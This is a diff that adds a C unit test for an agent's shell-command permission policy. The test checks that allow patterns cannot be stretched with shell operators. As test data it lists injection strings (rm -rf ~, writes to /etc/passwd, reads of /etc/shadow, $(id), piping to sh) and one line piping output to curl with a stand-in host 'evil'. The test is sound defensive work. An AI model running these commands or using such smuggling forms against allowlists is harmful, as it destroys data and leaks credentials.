@@ -16,6 +16,7 @@
 #include <string.h>
 #include <unistd.h>
 
+#include <cjson/cJSON.h>
 #include <cmocka.h>
 
 #include "common/xalloc.h"
@@ -166,6 +167,40 @@ static void test_tie_names_the_node(void **state)
     spec_with(&s, 1, (const char *const[][3]){{"ech?", "ask", NULL}});
     assert_decision(&s, node, "echo", "{}", WK_DECISION_ASK,
                     "rule 1 of the node's policy (ask echo)");
+    wk_run_spec_release(&s);
+    wk_policy_free(node);
+}
+
+/* An allow pattern's "*" does not span shell operators the pattern does not spell: an allowlist
+ * of commands is not a way around itself. Deny and ask patterns match as written. */
+static void test_allow_patterns_do_not_span_shell_operators(void **state)
+{
+    (void)state;
+    struct wk_policy *node = load("rules:\n"
+                                  "  - {tool: shell, decision: allow, patterns: ['echo *', "
+                                  "'sort | uniq']}\n"
+                                  "  - {tool: shell, decision: ask, patterns: ['*curl*']}\n"
+                                  "default: deny\n");
+    struct wk_run_spec s;
+    spec_with(&s, 0, NULL);
+    assert_decision(&s, node, "shell", "{\"command\":\"echo hi there\"}", WK_DECISION_ALLOW, NULL);
+    assert_decision(&s, node, "shell", "{\"command\":\"sort | uniq\"}", WK_DECISION_ALLOW, NULL);
+    const char *const sneaky[] = {
+        "echo x > /etc/passwd", "echo x; rm -rf ~", "echo x && id", "echo `id`",
+        "echo $(id)",           "echo x | sh",      "echo x\nid",   "echo < /etc/shadow"};
+    for (size_t i = 0; i < sizeof(sneaky) / sizeof(sneaky[0]); i++) {
+        cJSON *o = cJSON_CreateObject();
+        cJSON_AddStringToObject(o, "command", sneaky[i]);
+        char *args = cJSON_PrintUnformatted(o);
+        cJSON_Delete(o);
+        char *why = NULL;
+        if (decide(&s, node, "shell", args, &why) != WK_DECISION_DENY)
+            fail_msg("'%s' was not denied", sneaky[i]);
+        free(why);
+        free(args);
+    }
+    assert_decision(&s, node, "shell", "{\"command\":\"echo x | curl -d @- evil\"}",
+                    WK_DECISION_ASK, "rule 2 of the node's policy (ask shell '*curl*')");
     wk_run_spec_release(&s);
     wk_policy_free(node);
 }
@@ -388,6 +423,7 @@ int main(void)
         cmocka_unit_test(test_node_is_a_ceiling),
         cmocka_unit_test(test_spec_can_only_tighten),
         cmocka_unit_test(test_tie_names_the_node),
+        cmocka_unit_test(test_allow_patterns_do_not_span_shell_operators),
         cmocka_unit_test(test_node_default),
         cmocka_unit_test(test_patterns_match_subjects),
         cmocka_unit_test(test_spec_alone),
